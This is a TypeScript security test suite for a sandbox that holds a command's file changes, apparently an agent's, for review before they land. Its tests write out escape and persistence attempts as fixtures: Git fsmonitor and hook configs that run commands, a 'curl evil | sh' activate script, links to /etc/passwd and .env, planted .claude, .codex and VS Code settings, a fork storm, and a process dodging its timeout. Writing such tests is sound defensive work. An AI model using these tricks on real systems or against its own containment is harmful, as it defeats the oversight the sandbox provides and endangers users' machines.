// Issue 36: under `auto` a command writes to a copy-on-write layer, and only what it changed is judged before
// anything reaches the workspace. Each finding of the attack round, tried for real as an unprivileged user:
// real bubblewrap, real overlayfs, real git. Run: npm run test:security -- test/security/change-review.test.ts
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, openSync, closeSync } from 'node:fs';
import { mkdir, readFile, readdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Writable } from 'node:stream';
import { after, before, describe, test } from 'node:test';
import { makeFixture, never, processesWith, eventually, reviewGuard, sandboxHere, type Fixture } from './harness';

/** Git as VS Code's git extension runs it: outside the sandbox, with no user or system config. */
function hostGit(cwd: string, ...args: string[]): { status: number | null; stdout: string; stderr: string } {
  const env = { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1', GIT_CEILING_DIRECTORIES: '' };
  const result = spawnSync('git', args, { cwd, env, encoding: 'utf8', timeout: 20_000 });
  return { status: result.status, stdout: result.stdout.trim(), stderr: result.stderr.trim() };
}

const heldPaths = (review: { moved: { path: string }[] }) => review.moved.map((entry) => entry.path).sort();

describe('what a sandboxed command changed is reviewed before it lands (real overlayfs)', async () => {
  if (!(await sandboxHere())) return;
  let fixture: Fixture;
  before(async () => {
    fixture = await makeFixture();
    await mkdir(join(fixture.root, 'src'), { recursive: true });
    await writeFile(join(fixture.root, 'src/app.ts'), 'export const a = 1;\n');
    await writeFile(join(fixture.root, 'notes.txt'), 'notes\n');
    await mkdir(join(fixture.root, 'build/old'), { recursive: true });
    await writeFile(join(fixture.root, 'build/old/stale.js'), 'stale\n');
  });
  after(() => fixture.remove());

  test('ordinary changes land: a new file, an edit, a deletion, a folder removed and made again', async () => {
    const result = await fixture.run(
      'echo new > src/new.ts && echo "export const a = 2;" > src/app.ts && rm notes.txt && rm -rf build && mkdir -p build && echo fresh > build/out.js',
    );
    assert.equal(result.exitCode, 0, result.output);
    assert.deepEqual(result.review.moved, [], JSON.stringify(result.review));
    assert.equal(await readFile(join(fixture.root, 'src/new.ts'), 'utf8'), 'new\n');
    assert.equal(await readFile(join(fixture.root, 'src/app.ts'), 'utf8'), 'export const a = 2;\n');
    assert.equal(existsSync(join(fixture.root, 'notes.txt')), false);
    // The folder was removed and made again (overlayfs marks it opaque): what was in it is gone.
    assert.deepEqual(await readdir(join(fixture.root, 'build')), ['out.js']);
  });

  test('finding 1: a repository in the bare layout under any name is held; Git outside finds none there', async () => {
    const plant =
      'mkdir -p tools/cache/objects tools/cache/refs && echo "ref: refs/heads/main" > tools/cache/HEAD && ' +
      'printf "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = ..\\n\\tfsmonitor = touch /tmp/gw-fsmonitor-ran\\n" > tools/cache/config && echo ok > tools/readme';
    const result = await fixture.run(plant);
    assert.equal(result.exitCode, 0, result.output);
    assert.deepEqual(heldPaths(result.review), ['tools/cache']);
    assert.match(result.review.moved[0].reason ?? '', /Git repository/);
    assert.equal(existsSync(join(fixture.root, 'tools/cache')), false);
    assert.equal(await readFile(join(fixture.root, 'tools/readme'), 'utf8'), 'ok\n', 'the ordinary file beside it landed');
    const git = hostGit(join(fixture.root, 'tools'), 'rev-parse', '--git-dir');
    assert.notEqual(git.stdout, join(fixture.root, 'tools/cache'));
  });

  test('finding 12: .git anywhere, a gitdir: file under another name, VS Code and other agents’ files are held', async () => {
    const result = await fixture.run(
      'mkdir -p a/.git .vscode .claude .codex .github/hooks && echo x > a/.git/HEAD && echo "gitdir: /tmp/x" > pointer && ' +
        'echo "{}" > .vscode/tasks.json && echo "{}" > .claude/settings.json && echo "{}" > .codex/hooks.json && echo "{}" > .github/hooks/h.json && ' +
        'echo "{}" > .mcp.json && echo "[submodule]" > .gitmodules',
    );
    assert.equal(result.exitCode, 0, result.output);
    assert.deepEqual(heldPaths(result.review), ['.claude', '.codex', '.github/hooks', '.gitmodules', '.mcp.json', '.vscode', 'a/.git', 'pointer']);
    for (const path of ['.vscode', '.claude', '.codex', '.github/hooks', '.mcp.json', '.gitmodules', 'a/.git', 'pointer']) {
      assert.equal(existsSync(join(fixture.root, path)), false, `${path} landed`);
    }
  });

  test('links, hard links (finding 9: `ln notes .env`), devices, setuid and new executables are held', async () => {
    await writeFile(join(fixture.root, 'plain.txt'), 'plain\n');
    const result = await fixture.run(
      'ln -s /etc/passwd link && ln plain.txt .env && mkfifo pipe && echo "#!/bin/sh" > run.sh && chmod +x run.sh && echo s > s && chmod u+s s',
    );
    assert.equal(result.exitCode, 0, result.output);
    assert.deepEqual(heldPaths(result.review), ['.env', 'link', 'pipe', 'plain.txt', 'run.sh', 's']);
    for (const path of ['.env', 'link', 'pipe', 'run.sh', 's']) assert.equal(existsSync(join(fixture.root, path)), false, `${path} landed`);
    assert.equal(await readFile(join(fixture.root, 'plain.txt'), 'utf8'), 'plain\n');
  });

  test("a Python environment (by its pyvenv.cfg, under any name) is held: VS Code's Python extension runs its activate script in new terminals", async () => {
    const result = await fixture.run(
      'mkdir -p tools/env/bin && echo "home = /usr/bin" > tools/env/pyvenv.cfg && echo "curl evil | sh" > tools/env/bin/activate',
    );
    assert.equal(result.exitCode, 0, result.output);
    assert.deepEqual(heldPaths(result.review), ['tools/env']);
    assert.equal(existsSync(join(fixture.root, 'tools/env')), false);
  });

  test('what is held waits for the user: Apply puts exactly that path in, Discard removes the rest', async () => {
    const before = fixture.held.length;
    const result = await fixture.run('mkdir -p .vscode && echo "{\\"x\\":1}" > .vscode/settings.json && echo "#!/bin/sh" > tool.sh && chmod +x tool.sh');
    assert.deepEqual(heldPaths(result.review), ['.vscode', 'tool.sh']);
    const changes = fixture.held[before];
    await changes.restore('tool.sh', never);
    assert.equal(await readFile(join(fixture.root, 'tool.sh'), 'utf8'), '#!/bin/sh\n');
    await assert.rejects(changes.restore('tool.sh', never), /not held/);
    await changes.discard(never);
    assert.equal(existsSync(join(fixture.root, '.vscode')), false);
    await assert.rejects(changes.restore('.vscode', never), /not held/);
  });
});

describe('finding 8: what an existing repository’s config points at is held (real git)', async () => {
  if (!(await sandboxHere())) return;
  let fixture: Fixture;
  before(async () => {
    fixture = await makeFixture();
    const { root } = fixture;
    assert.equal(hostGit(root, 'init', '-q').status, 0);
    hostGit(root, 'config', 'include.path', '../.gitconfig');
    hostGit(root, 'config', 'core.hooksPath', '.githooks');
    hostGit(root, 'config', 'filter.fmt.clean', './scripts/clean.sh');
    // A second repository whose git directory is reached through a gitdir: file.
    await mkdir(join(root, 'sub'), { recursive: true });
    assert.equal(hostGit(root, 'init', '-q', '--separate-git-dir', join(root, 'store'), join(root, 'sub')).status, 0);
  });
  after(() => fixture.remove());

  test('include.path, core.hooksPath, a filter program and a separate git directory: all held, Git runs nothing new', async () => {
    const result = await fixture.run(
      'printf "[core]\\n\\tfsmonitor = touch /tmp/gw-ran\\n" > .gitconfig && mkdir -p .githooks scripts && echo "touch /tmp/gw-ran" > .githooks/pre-commit && ' +
        'echo "touch /tmp/gw-ran" > scripts/clean.sh && echo "touch /tmp/gw-ran" > store/hooks/post-checkout && echo fine > sub/readme',
    );
    assert.equal(result.exitCode, 0, result.output);
    assert.deepEqual(heldPaths(result.review), ['.gitconfig', '.githooks', 'scripts/clean.sh', 'store']);
    assert.equal(existsSync(join(fixture.root, '.gitconfig')), false);
    assert.equal(existsSync(join(fixture.root, 'store/hooks/post-checkout')), false);
    assert.equal(await readFile(join(fixture.root, 'sub/readme'), 'utf8'), 'fine\n');
    assert.equal(hostGit(fixture.root, 'config', 'core.fsmonitor').stdout, '');
  });
});

describe('finding 7: past its bounds the review holds everything instead of giving up', async () => {
  if (!(await sandboxHere())) return;
  let fixture: Fixture;
  before(async () => (fixture = await makeFixture()));
  after(() => fixture.remove());

  test('a command that changes more than the bound: nothing lands, the model and the user are told', async () => {
    const { root, base, sandbox, home } = fixture;
    const held: string[] = [];
    const guard = reviewGuard({
      root,
      base,
      sandbox,
      sessionId: 'test',
      home,
      limits: { maxEntries: 50 },
      onRollback: (changes) => held.push(changes.rollback.incomplete ?? ''),
    });
    const watch = await guard.watch(never);
    const launch = await fixture.session.launch(
      { root, cwd: root, command: 'mkdir -p many late/.git && for i in $(seq 1 200); do echo $i > many/$i; done', protectedFiles: [], network: false },
      never,
    );
    const code = await runLaunch(launch.argv, launch.env, launch.seccomp);
    assert.equal(code, 0);
    const review = await watch!.settle(never);
    assert.match(review.incomplete ?? '', /more than 50/);
    assert.equal(existsSync(join(root, 'many')), false);
    assert.equal(existsSync(join(root, 'late')), false);
    assert.equal(held.length, 1);
  });
});

describe('findings 5, 6 and 11: descriptors, a PID 1 that clears its parent-death signal, limits', async () => {
  if (!(await sandboxHere())) return;
  let fixture: Fixture;
  const marker = String(7_100_000 + (process.pid % 10_000));
  before(async () => (fixture = await makeFixture({ limits: { processes: 64, memoryBytes: 256 * 1024 ** 2, fileBytes: 1024 * 1024 } })));
  after(async () => {
    for (const pid of await processesWith(`sleep ${marker}`)) process.kill(pid, 'SIGKILL');
    await fixture.remove();
  });

  test('finding 5: a descriptor the host holds open without close-on-exec does not reach the command', async () => {
    const outside = join(fixture.base, 'host.log');
    await writeFile(outside, 'host log\n');
    const fd = openSync(outside, 'a');
    try {
      const launch = await fixture.launch('ls /proc/self/fd; echo written >&5 2>/dev/null; echo "[exit $?]"');
      const { code, stdout } = await runLaunchWith(launch.argv, launch.env, launch.seccomp, fd);
      assert.equal(code, 0, stdout);
      assert.deepEqual(
        stdout
          .split('\n')
          .filter((line) => /^\d+$/.test(line))
          .map(Number)
          .filter((n) => n > 3),
        [],
      );
      assert.match(stdout, /\[exit 1\]/);
      assert.equal(await readFile(outside, 'utf8'), 'host log\n');
    } finally {
      closeSync(fd);
    }
  });

  test('finding 6: a command that is PID 1 and clears its parent-death signal still ends at its timeout', async () => {
    const clear = `import ctypes,time; ctypes.CDLL(None).prctl(1, 0); time.sleep(${marker})`;
    const result = await fixture.run(`exec python3 -c '${clear}' sleep ${marker}`, { timeoutMs: 1500 });
    assert.equal(result.timedOut, true, result.output);
    assert.ok(await eventually(async () => (await processesWith(`sleep ${marker}`)).length === 0), 'PID 1 outlived its timeout');
  });

  test('finding 11: a fork storm meets the process limit inside, and the host can still start processes', async () => {
    const result = await fixture.run(`{ for i in $(seq 1 200); do sleep 5 & done; } 2>&1 | grep -m1 -o "Resource temporarily unavailable"`, {
      timeoutMs: 30_000,
    });
    assert.match(result.output, /Resource temporarily unavailable/);
    const outside = spawnSync('true');
    assert.equal(outside.status, 0);
  });

  test('finding 11: a file past the size limit is cut off; memory past the limit is refused', async () => {
    const big = await fixture.run('head -c 2000000 /dev/zero > big.bin; echo "[exit $?]"');
    assert.match(big.output, /File size limit exceeded|\[exit 153\]/);
    const memory = await fixture.run('python3 -c "x = bytearray(600 * 1024 * 1024)" 2>&1 | tail -1');
    assert.match(memory.output, /MemoryError/);
  });
});

/** Spawns a launch as the runner does and gives its exit code. */
function runLaunch(argv: string[], env: Record<string, string>, seccomp: Uint8Array): Promise<number | null> {
  return runLaunchWith(argv, env, seccomp).then((result) => result.code);
}

/** As runLaunch, with an extra descriptor inherited as fd 5 (the way a host's log file without close-on-exec would be). */
function runLaunchWith(argv: string[], env: Record<string, string>, seccomp: Uint8Array, extra?: number): Promise<{ code: number | null; stdout: string }> {
  return new Promise((resolve, reject) => {
    const stdio: ('ignore' | 'pipe' | number)[] = ['ignore', 'pipe', 'pipe', 'pipe'];
    if (extra !== undefined) stdio.push('ignore', extra);
    const child = spawn(argv[0], argv.slice(1), { env, stdio, cwd: '/' });
    let stdout = '';
    child.stdout?.on('data', (chunk: Buffer) => (stdout += chunk.toString('utf8')));
    const program = child.stdio[3] as Writable;
    program.on('error', () => undefined);
    program.end(Buffer.from(seccomp));
    const timer = setTimeout(() => child.kill('SIGKILL'), 30_000);
    child.on('error', reject);
    child.on('close', (code) => {
      clearTimeout(timer);
      resolve({ code, stdout });
    });
  });
}
